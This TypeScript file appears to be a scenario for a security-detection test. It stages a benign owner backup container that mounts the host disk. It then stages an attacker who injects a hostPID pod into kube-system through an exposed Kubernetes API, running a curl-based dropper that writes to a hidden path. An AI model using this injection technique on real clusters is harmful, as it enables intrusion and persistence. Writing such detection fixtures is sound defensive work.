// A container with the whole disk of the host in it is an old trick, and here it is the owner's nightly job, started by hand.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { docker, kubeApiserver } from '../../products.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.toy(docker)
  dress.toy(kubeApiserver)
  // The client, for this one job.
  dress.write(
    '/usr/bin/docker',
    `#!/bin/sh
api() { curl -s --unix-socket /run/docker.sock -H 'Content-Type: application/json' -X POST "http://docker/v1.43/$1" -d "$2"; }
id=$(api containers/create '{"Image":"restic/restic","Cmd":["/bin/sh","-c","sleep 120"],"HostConfig":{"Binds":["/:/host:ro"]}}' | sed 's/.*"Id":"\\([0-9a-f]*\\)".*/\\1/')
api containers/$id/start ''
echo $id
`,
    { mode: 0o755 },
  )
  const key = dress.key('owner', 'wang@laptop')
  dress.trust('root', key)
  dress.logins({ days: 20, guesses: 40, friends: [{ user: 'root', address: '198.51.100.20', key: key.fingerprint, hours: [9, 15] }] })
}

export async function plant(stage: Stage): Promise<void> {
  const from = '203.0.113.222'
  const agent = { 'User-Agent': 'curl/7.61.1' }
  await stage.session('198.51.100.20', 'root', { key: 'owner' }, ['docker run -d -v /:/host:ro restic/restic backup /host', 'sleep 1'])
  const line = dropper(stage, { path: '/var/lib/.kube/kube-dns', fetch: 'curl', cron: false })
  await stage.http('198.51.100.20', ':6443/version', undefined, { 'User-Agent': 'kubectl/v1.28.2 (linux/amd64)' })
  const container = { name: 'dns', image: 'alpine', command: ['/bin/sh', '-c', line] }
  const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'kube-dns-x' }, spec: { hostPID: true, containers: [container] } }
  stage.mark('occurrence')
  await stage.http(from, ':6443/api/v1/namespaces/kube-system/pods', JSON.stringify(pod), agent)
}
